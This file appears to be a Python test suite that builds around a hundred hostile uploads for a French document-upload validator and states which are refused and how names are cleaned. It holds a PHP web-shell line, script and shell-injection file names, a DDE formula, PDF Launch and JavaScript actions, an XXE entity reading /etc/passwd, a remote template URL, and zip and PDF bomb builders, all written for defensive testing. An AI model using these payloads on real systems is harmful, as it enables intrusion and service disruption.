"""A hundred files that no honest person sends, made here byte by byte, and what becomes of each."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.documents import samples
from tests.documents.samples import PDF, archive, open_document, picture, png_of, word


NB = "\u00a0"
ACCEPTED = "PDF, Word (.docx), Excel (.xlsx), OpenDocument (.odt, .ods), JPEG ou PNG"
AGAIN = "Ouvrez-le, enregistrez-le de nouveau dans ce format, puis déposez-le."
COPY = "Enregistrez-en une copie (par exemple «\u00a0Imprimer en PDF\u00a0»), puis déposez-la."
SENTENCES = {
    "empty": "Le fichier «\u00a0{name}\u00a0» est vide.",
    "form_empty": "Ce fichier est vide.",
    "missing": "Choisissez un fichier.",
    "too_large": "Le fichier «\u00a0{name}\u00a0» pèse {size}\u00a0: le maximum est {most}.",
    "extension": (
        "Le format du fichier «\u00a0{name}\u00a0» n’est pas accepté. "
        f"Formats acceptés\u00a0: {ACCEPTED}."
    ),
    "content": "Ce fichier n’est pas un vrai fichier {label}, ou il est abîmé. " + AGAIN,
    "pdf_bomb": "Ce PDF contient beaucoup trop de données une fois ouvert. " + COPY,
    "pdf_encrypted": (
        "Ce PDF est protégé par un mot de passe ou des restrictions. Enregistrez-en une copie "
        "sans protection (par exemple «\u00a0Imprimer en PDF\u00a0»), puis déposez-la."
    ),
    "pdf_program": (
        "Ce PDF contient un programme ou une action qui se lance seule. Enregistrez-en une copie "
        "simple (par exemple «\u00a0Imprimer en PDF\u00a0»), puis déposez-la."
    ),
    "pages": "Ce PDF a plus de 2000 pages.",
    "pixels": (
        "Cette image est trop grande (plus de 40 millions de points). Réduisez-la, puis déposez-la."
    ),
    "bomb": (
        "Ce fichier contient beaucoup trop de données une fois ouvert. "
        "Enregistrez-le en PDF, puis déposez le PDF."
    ),
    "encrypted": (
        "Ce fichier est protégé par un mot de passe. Enregistrez-en une copie sans protection, "
        "puis déposez-la."
    ),
    "macros": (
        "Ce fichier contient des macros. Enregistrez-le sans macros ou en PDF, puis déposez-le."
    ),
    "program": (
        "Ce fichier contient un programme ou une archive. Enregistrez-le en PDF, "
        "puis déposez le PDF."
    ),
    "external": (
        "Ce fichier va chercher une partie de son contenu sur Internet ou sur un autre "
        "ordinateur. Enregistrez-le en PDF, puis déposez le PDF."
    ),
}
LABELS = {
    "pdf": "PDF",
    "docx": "Word (.docx)",
    "xlsx": "Excel (.xlsx)",
    "odt": "OpenDocument (.odt)",
    "ods": "OpenDocument (.ods)",
    "jpg": "JPEG",
    "jpeg": "JPEG",
    "png": "PNG",
}


@dataclass(frozen=True)
class Case:
    """One hostile file.

    Attributes:
        what: What it is.
        name: As sent.
        content: Makes its bytes.
        stored: The name it is kept under; ``None`` when it is refused.
        why: Key of ``SENTENCES`` when it is refused.
        shown: Its name as the refusal writes it, when cleaned.
        media_type: As the sender claims.
    """

    what: str
    name: str
    content: Callable[[], bytes]
    stored: str | None = None
    why: str = ""
    shown: str = ""
    media_type: str = "application/octet-stream"

    @property
    def sentence(self) -> str:
        shown = self.shown or self.name
        label = LABELS.get(shown.rpartition(".")[2].lower(), "")
        return SENTENCES[self.why].format(
            name=shown, label=label, size=f"10{NB}Mo", most=f"10{NB}Mo"
        )


def kept(what: str, name: str, stored: str, content: bytes | Callable[[], bytes] = PDF, **more):
    made = content if callable(content) else lambda: content
    return Case(what, name, made, stored=stored, **more)


def refused(what: str, name: str, content: bytes | Callable[[], bytes], why: str, **more):
    made = content if callable(content) else lambda: content
    return Case(what, name, made, why=why, **more)


# --- PDF ------------------------------------------------------------------------------------------
def pdf(body: bytes) -> bytes:
    return PDF.replace(b"trailer", body + b"\ntrailer")


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"9 0 obj<<%s/Length %d>>stream\n%s\nendstream endobj" % (dictionary, len(data), data)


def packed(data: bytes, dictionary: bytes = b"") -> bytes:
    return stream(dictionary + b"/Filter/FlateDecode", zlib.compress(data, 9))


def objects(data: bytes) -> bytes:
    return pdf(packed(data, b"/Type/ObjStm/N 1/First 4"))


def pdf_bomb() -> bytes:
    machine = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    data = b"".join(machine.compress(zeros) for _ in range(300)) + machine.flush()
    return pdf(stream(b"/Filter/FlateDecode", data))


def many_streams() -> bytes:
    data = zlib.compress(bytes(30 * 1024 * 1024), 9)
    return pdf(b"\n".join(stream(b"/Filter/FlateDecode", data) for _ in range(10)))


# --- Office files ---------------------------------------------------------------------------------
RELS = (
    b'<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas/%s" '
    b'Target="%s" TargetMode="External"/></Relationships>'
)


def with_parts(parts: dict[str, bytes]) -> bytes:
    usual = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
    return archive({**usual, **parts})


def sheet_with(parts: dict[str, bytes]) -> bytes:
    usual = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}
    return archive({**usual, **parts})


def odt_with(parts: dict[str, bytes]) -> bytes:
    declared = b"application/vnd.oasis.opendocument.text"
    return archive({"mimetype": declared, "content.xml": b"<office/>", **parts})


def relation(kind: str, target: str) -> bytes:
    return RELS % (kind.encode(), target.encode())


def locked_archive() -> bytes:
    content = bytearray(word())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(mark, start)) >= 0:
            content[start + offset] |= 1
            start += 4
    return bytes(content)


def lying_archive() -> bytes:
    """A directory that says ten bytes where there are a hundred thousand."""
    content = bytearray(word(word__big=b"a" * 100_000))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/big"))
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def overlapping_archive() -> bytes:
    """Many entries of the directory that share the bytes of one part."""
    source = io.BytesIO(word(word__big=bytes(range(256)) * 300))
    with zipfile.ZipFile(source) as opened:
        entries = opened.infolist()
    content = source.getvalue()
    start = content.find(b"PK\x01\x02")
    last = content.rfind(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    one = content[last:end].replace(b"word/big", b"word/%03d")
    copies = b"".join(one.replace(b"%03d", b"%03d" % n) for n in range(200))
    count = len(entries) + 200
    directory = content[start:end] + copies
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return content[:start] + directory + tail


def twice_named() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as file:
        file.writestr("word/document.xml", b"<w:document/>")
        file.writestr("WORD/DOCUMENT.XML", b"<w:other/>")
    return target.getvalue()


def broken_archive() -> bytes:
    content = bytearray(word(word__image=b"abcdef" * 2000))
    at = content.find(b"word/image") + 30
    content[at : at + 8] = b"\xff" * 8
    return bytes(content)


def crowd() -> bytes:
    return with_parts({f"word/{n}.xml": b"" for n in range(5001)})


# --- Pictures -------------------------------------------------------------------------------------
def jpeg() -> bytes:
    return picture("JPEG")


def png() -> bytes:
    return picture("PNG")


def large_jpeg() -> bytes:
    """A JPEG whose header says 60 000 × 60 000."""
    content = bytearray(jpeg())
    at = content.find(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack("!HH", 60_000, 60_000)
    return bytes(content)


def jpeg_with_thumbnail_cut() -> bytes:
    """The thumbnail ends, the picture does not."""
    thumbnail = b"Exif\0\0" + jpeg()
    segment = b"\xff\xe1" + struct.pack("!H", len(thumbnail) + 2) + thumbnail
    content = jpeg()
    return content[:2] + segment + content[2:-2]


def png_text_bomb() -> bytes:
    data = b"Comment\0\0" + zlib.compress(bytes(80 * 1024 * 1024), 9)
    chunk = (
        struct.pack("!I", len(data))
        + b"zTXt"
        + data
        + struct.pack("!I", zlib.crc32(b"zTXt" + data))
    )
    content = png()
    return content[:33] + chunk + content[33:]


def bmp() -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (8, 8)).save(target, "BMP")
    return target.getvalue()


def gif() -> bytes:
    target = io.BytesIO()
    Image.new("P", (8, 8)).save(target, "GIF")
    return target.getvalue()


HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\0" + b"\0" * 200
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OVERSIZE = 10 * 1024 * 1024 + 1

CASES: list[Case] = [
    # Names: kept, cleaned.
    kept("path to the root", "../../../etc/statuts.pdf", "statuts.pdf"),
    kept("path of Windows", "C:\\Users\\moi\\statuts.pdf", "statuts.pdf"),
    kept("path of a share", "\\\\serveur\\partage\\statuts.pdf", "statuts.pdf"),
    kept("absolute path", "/etc/passwd.pdf", "passwd.pdf"),
    kept("encoded path", "..%2f..%2fstatuts.pdf", "_2f.._2fstatuts.pdf"),
    kept("right-to-left override", "facture\u202efdp.pdf", "facturefdp.pdf"),
    kept("left-to-right isolate", "a\u2066b\u2069.pdf", "ab.pdf"),
    kept("zero-width space", "sta\u200btuts.pdf", "statuts.pdf"),
    kept("byte order mark", "\ufeffstatuts.pdf", "statuts.pdf"),
    kept("soft hyphen", "sta\u00adtuts.pdf", "statuts.pdf"),
    kept("decomposed accents", "de\u0301libe\u0301ration.pdf", "délibération.pdf"),
    kept("emoji", "photo 😀👨‍👩‍👧.pdf", "photo 😀👨👩👧.pdf"),
    kept("three hundred letters", "é" * 300 + ".pdf", "é" * 146 + ".pdf"),
    kept("two hundred dots", "." * 200 + "statuts.pdf", "statuts.pdf"),
    kept("trailing dots", "statuts.pdf...", "statuts.pdf"),
    kept("trailing spaces", "statuts.pdf   ", "statuts.pdf"),
    kept("many spaces", "mes    statuts\u00a0\u2003signés.pdf", "mes statutssignés.pdf"),
    kept("reserved name", "CON.pdf", "_CON.pdf"),
    kept("reserved port", "lpt1.pdf", "_lpt1.pdf"),
    kept("reserved name, two extensions", "nul.tar.pdf", "_nul.tar.pdf"),
    kept("hidden file", ".htaccess.pdf", "htaccess.pdf"),
    kept("double extension", "facture.exe.pdf", "facture.exe.pdf"),
    kept("tag in the name", "<svg onload=alert(1)>.pdf", "_svg onload=alert(1)_.pdf"),
    kept("quote in the name", 'l\'"acte".pdf', "l'_acte_.pdf"),
    kept("semicolon in the name", "a;b=c.pdf", "a_b=c.pdf"),
    kept("shell in the name", "$(reboot)`id`|x.pdf", "$(reboot)`id`_x.pdf"),
    kept("SQL in the name", "'; DROP TABLE x;--.pdf", "'_ DROP TABLE x_--.pdf"),
    kept("template in the name", "{{7*7}}{% load x %}.pdf", "{{7_7}}{_ load x _}.pdf"),
    kept("formula in the name", "=cmd|' /C calc'!A0.pdf", "C calc'!A0.pdf"),
    kept("no name but an extension", ".pdf.pdf", "pdf.pdf"),
    kept("upper-case extension", "STATUTS.PDF", "STATUTS.PDF"),
    kept("Arabic name", "وثيقة.pdf", "وثيقة.pdf"),
    kept("tab in the name", "a\tb.pdf", "ab.pdf"),
    kept("control characters", "a\x01\x1fb\x7f.pdf", "ab.pdf"),
    # Names: refused.
    refused("no extension", "statuts", PDF, "extension"),
    refused("extension alone", ".pdf", PDF, "extension", shown="pdf"),
    refused("only dots", "....", PDF, "extension", shown="fichier"),
    refused("program behind a PDF", "facture.pdf.exe", PDF, "extension"),
    refused(
        "extension turned by bidi", "facture\u202efdp.exe", PDF, "extension", shown="facturefdp.exe"
    ),
    refused("alternate stream", "statuts.pdf::$DATA", PDF, "extension", shown="statuts.pdf__$DATA"),
    refused("look-alike extension", "statuts.рdf", PDF, "extension"),
    refused("full-width extension", "statuts.ｐｄｆ", PDF, "extension"),
    refused(
        "extension cut by a space", "statuts.pdf .js", PDF, "extension", shown="statuts.pdf.js"
    ),
    # Formats that are not taken.
    refused("web page", "page.html", HTML, "extension", media_type="application/pdf"),
    refused("drawing with a script", "dessin.svg", SVG, "extension", media_type="image/png"),
    refused("script of a server", "outil.php", PHP, "extension"),
    refused("program", "outil.exe", EXE, "extension"),
    refused("old Word file", "lettre.doc", OLD_WORD, "extension"),
    refused("Word file with macros", "lettre.docm", word, "extension"),
    refused("Excel file with macros", "budget.xlsm", samples.excel, "extension"),
    refused("archive", "pieces.zip", word, "extension"),
    refused("shortcut", "dossier.lnk", b"L\0\0\0", "extension"),
    refused("picture of another format", "photo.gif", gif, "extension"),
    refused("phone picture", "photo.heic", b"\0\0\0\x18ftypheic", "extension"),
    refused("e-mail", "message.eml", b"From: a@b", "extension"),
    # Weight.
    refused("nothing", "vide.pdf", b"", "form_empty"),
    refused(
        "one byte too many", "lourd.pdf", lambda: PDF + b"\n" * (OVERSIZE - len(PDF)), "too_large"
    ),
    refused("one byte", "octet.pdf", b"%", "content"),
    # False PDF.
    refused("HTML as PDF", "faux.pdf", HTML, "content", media_type="application/pdf"),
    refused("SVG as PDF", "faux.pdf", SVG, "content", media_type="application/pdf"),
    refused("PHP as PDF", "faux.pdf", PHP, "content", media_type="application/pdf"),
    refused("program as PDF", "faux.pdf", EXE, "content", media_type="application/pdf"),
    refused("JPEG as PDF", "faux.pdf", jpeg, "content"),
    refused("Word as PDF", "faux.pdf", word, "content"),
    refused("program before a PDF", "polyglotte.pdf", EXE + PDF, "content"),
    refused("HTML before a PDF", "polyglotte.pdf", HTML + PDF, "content"),
    refused("HTML after a PDF", "polyglotte.pdf", PDF + HTML, "content"),
    refused("PHP after a PDF", "polyglotte.pdf", PDF + PHP, "content"),
    refused("archive after a PDF", "polyglotte.pdf", lambda: PDF + word(), "content"),
    refused("cut PDF", "coupe.pdf", PDF[:40], "content"),
    refused("PDF without an end", "coupe.pdf", PDF + b"\0" * 5000, "content"),
    refused("spaces before a PDF", "decale.pdf", b"\n\n" + PDF, "content"),
    refused("text of the enemy scanner's test", "eicar.pdf", samples.EICAR, "content"),
    # PDF: locked, bombs, programs.
    refused(
        "locked PDF",
        "secret.pdf",
        PDF.replace(b"<</Root", b"<</Encrypt 5 0 R/Root"),
        "pdf_encrypted",
    ),
    refused(
        "locked inside",
        "secret.pdf",
        PDF.replace(b"<</Root", b"<</Encrypt<</V 4>>/Root"),
        "pdf_encrypted",
    ),
    refused(
        "locked, name disguised",
        "secret.pdf",
        PDF.replace(b"<</Root", b"<</#45ncrypt 5 0 R/Root"),
        "pdf_encrypted",
    ),
    refused("bomb in a stream", "bombe.pdf", pdf_bomb, "pdf_bomb"),
    refused("bombs in ten streams", "bombe.pdf", many_streams, "pdf_bomb"),
    refused("bomb in objects", "bombe.pdf", lambda: objects(b"/a " * 12_000_000), "pdf_bomb"),
    refused(
        "packed twice",
        "bombe.pdf",
        lambda: pdf(
            stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(zlib.compress(b"a")))
        ),
        "pdf_bomb",
    ),
    refused("arrays in arrays", "profond.pdf", lambda: pdf(b"[" * 5000), "content"),
    refused("dictionaries in dictionaries", "profond.pdf", lambda: pdf(b"<</a " * 5000), "content"),
    refused("three thousand pages", "roman.pdf", lambda: pdf(b"<</Type/Page>>" * 3000), "pages"),
    refused("pages in objects", "roman.pdf", lambda: objects(b"<</Type/Page>>" * 3000), "pages"),
    refused(
        "launches a program", "lance.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "pdf_program"
    ),
    refused(
        "launches, in objects",
        "lance.pdf",
        lambda: objects(b"<</S/Launch/F(cmd.exe)>>"),
        "pdf_program",
    ),
    refused(
        "launches, name disguised",
        "lance.pdf",
        lambda: pdf(b"<</S/La#75nch/F(cmd.exe)>>"),
        "pdf_program",
    ),
    refused(
        "script at opening",
        "script.pdf",
        lambda: pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"),
        "pdf_program",
    ),
    refused(
        "script at opening, elsewhere",
        "script.pdf",
        lambda: pdf(b"<</OpenAction 7 0 R>>\n7 0 obj<</S/JavaScript/JS(x)>>endobj"),
        "pdf_program",
    ),
    refused("imports data", "importe.pdf", lambda: pdf(b"<</S/ImportData/F(x)>>"), "pdf_program"),
    refused("film and program", "riche.pdf", lambda: pdf(b"<</Subtype/RichMedia>>"), "pdf_program"),
    refused(
        "program inside",
        "porteur.pdf",
        lambda: pdf(b"<</Type/EmbeddedFile>><</F(outil.exe)>>"),
        "pdf_program",
    ),
    kept(
        "script of a form's field",
        "cerfa.pdf",
        "cerfa.pdf",
        lambda: pdf(b"<</AA<</K<</S/JavaScript/JS(x)>>>>>>"),
    ),
    kept(
        "invoice with its data",
        "facture.pdf",
        "facture.pdf",
        lambda: pdf(b"<</Type/EmbeddedFile>><</F(facture.xml)>>"),
    ),
    kept("wrong type of content", "statuts.pdf", "statuts.pdf", media_type="text/html"),
    kept(
        "damaged stream", "use.pdf", "use.pdf", lambda: pdf(stream(b"/Filter/FlateDecode", b"xxxx"))
    ),
    # Office files.
    refused("Excel as Word", "faux.docx", samples.excel, "content"),
    refused("Word as Excel", "faux.xlsx", word, "content"),
    refused("PDF as Word", "faux.docx", PDF, "content"),
    refused("old Word renamed", "lettre.docx", OLD_WORD, "content"),
    refused("spreadsheet as text", "faux.odt", lambda: open_document("spreadsheet"), "content"),
    refused(
        "OpenDocument without its type",
        "faux.ods",
        lambda: archive({"content.xml": b"<o/>"}),
        "content",
    ),
    refused("empty archive", "vide.docx", lambda: archive({}), "content"),
    refused("cut archive", "coupe.docx", lambda: word()[:80], "content"),
    refused("damaged part", "abime.docx", broken_archive, "content"),
    refused("sizes that lie", "menteur.docx", lying_archive, "content"),
    refused(
        "part out of the archive",
        "sortie.docx",
        lambda: with_parts({"../../evil.xml": b"x"}),
        "content",
    ),
    refused("part named twice", "double.docx", twice_named, "content"),
    refused("bomb", "bombe.docx", samples.zip_bomb, "bomb"),
    refused(
        "dense bomb",
        "bombe.xlsx",
        lambda: sheet_with({"xl/a.xml": bytes(50 * 1024 * 1024)}),
        "bomb",
    ),
    refused("parts that overlap", "bombe.docx", overlapping_archive, "bomb"),
    refused("five thousand parts", "foule.docx", crowd, "bomb"),
    refused(
        "archive in the archive",
        "poupee.docx",
        lambda: with_parts({"word/media/a.zip": word()}),
        "program",
    ),
    refused("locked archive", "secret.docx", locked_archive, "encrypted"),
    refused("macros", "macro.docx", lambda: with_parts({"word/vbaProject.bin": b"x"}), "macros"),
    refused(
        "macros of Excel 4",
        "macro.xlsx",
        lambda: sheet_with({"xl/macrosheets/sheet1.xml": b"x"}),
        "macros",
    ),
    refused(
        "macros said by the types",
        "macro.docx",
        lambda: with_parts({"[Content_Types].xml": b'<Override ContentType="x.macroEnabled"/>'}),
        "macros",
    ),
    refused(
        "active object",
        "actif.docx",
        lambda: with_parts({"word/activeX/activeX1.bin": b"x"}),
        "macros",
    ),
    refused(
        "macros of OpenDocument",
        "macro.odt",
        lambda: odt_with({"Basic/Standard/Module1.xml": b"x"}),
        "macros",
    ),
    refused(
        "scripts of OpenDocument",
        "script.odt",
        lambda: odt_with({"Scripts/python/x.py": b"x"}),
        "macros",
    ),
    refused(
        "template from elsewhere",
        "modele.docx",
        lambda: with_parts(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://mechant.example/t.dotm"
                )
            }
        ),
        "external",
    ),
    refused(
        "object from elsewhere",
        "objet.docx",
        lambda: with_parts(
            {"word/_rels/document.xml.rels": relation("oleObject", "file://serveur/x")}
        ),
        "external",
    ),
    refused(
        "program among the parts",
        "outil.docx",
        lambda: with_parts({"word/embeddings/outil.exe": EXE}),
        "program",
    ),
    refused(
        "program without its name",
        "outil.docx",
        lambda: with_parts({"word/embeddings/oleObject1.bin": EXE}),
        "program",
    ),
    refused(
        "program in a package",
        "outil.xlsx",
        lambda: sheet_with({"xl/embeddings/oleObject1.bin": b"Ole10Native\0C:\\outil.exe\0"}),
        "program",
    ),
    refused(
        "entities",
        "xxe.docx",
        lambda: with_parts(
            {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w/>'}
        ),
        "program",
    ),
    kept(
        "links to pages",
        "liens.docx",
        "liens.docx",
        lambda: with_parts(
            {"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.fr/")}
        ),
    ),
    kept(
        "links to another workbook",
        "budget.xlsx",
        "budget.xlsx",
        lambda: sheet_with(
            {
                "xl/externalLinks/_rels/externalLink1.xml.rels": relation(
                    "externalLinkPath", "budget-2026.xlsx"
                )
            }
        ),
    ),
    # Pictures.
    refused("PNG as JPEG", "photo.jpg", png, "content"),
    refused("JPEG as PNG", "photo.png", jpeg, "content"),
    refused("BMP as PNG", "photo.png", bmp, "content"),
    refused("GIF with a script, as JPEG", "photo.jpg", lambda: gif() + b"/*alert(1)*/", "content"),
    refused("PHP as JPEG", "photo.jpg", b"\xff\xd8\xff" + PHP, "content"),
    refused("HTML as PNG", "photo.png", b"\x89PNG\r\n\x1a\n" + HTML, "content"),
    refused("cut JPEG", "photo.jpg", lambda: jpeg()[:-40], "content"),
    refused("cut JPEG, whole thumbnail", "photo.jpg", jpeg_with_thumbnail_cut, "content"),
    refused("cut PNG", "photo.png", lambda: png()[:-20], "content"),
    refused("PNG with a wrong sum", "photo.png", lambda: png()[:-1] + b"\0", "content"),
    refused("text bomb in a PNG", "photo.png", png_text_bomb, "content"),
    refused("flood of pixels", "deluge.png", lambda: png_of(30_000, 30_000), "pixels"),
    refused("flood of pixels, one line", "ligne.png", lambda: png_of(50_000_000, 1), "pixels"),
    refused("flood of pixels in a JPEG", "deluge.jpg", large_jpeg, "pixels"),
    kept(
        "camera's data after the picture",
        "photo.jpg",
        "photo.jpg",
        lambda: jpeg() + b"SAMSUNG" * 20,
    ),
]
